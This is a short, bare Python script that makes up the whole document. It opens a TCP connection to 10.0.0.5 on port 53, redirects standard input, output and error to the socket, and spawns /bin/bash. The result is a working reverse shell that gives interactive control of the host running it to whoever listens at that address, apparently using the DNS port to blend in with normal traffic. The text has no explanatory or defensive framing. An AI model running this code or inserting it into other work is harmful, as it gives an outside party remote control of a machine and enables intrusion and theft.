
import socket, os, pty
net = socket.socket()
net.connect(("10.0.0.5", 53))
for fd in (0, 1, 2):
    os.dup2(net.fileno(), fd)
pty.spawn("/bin/bash")
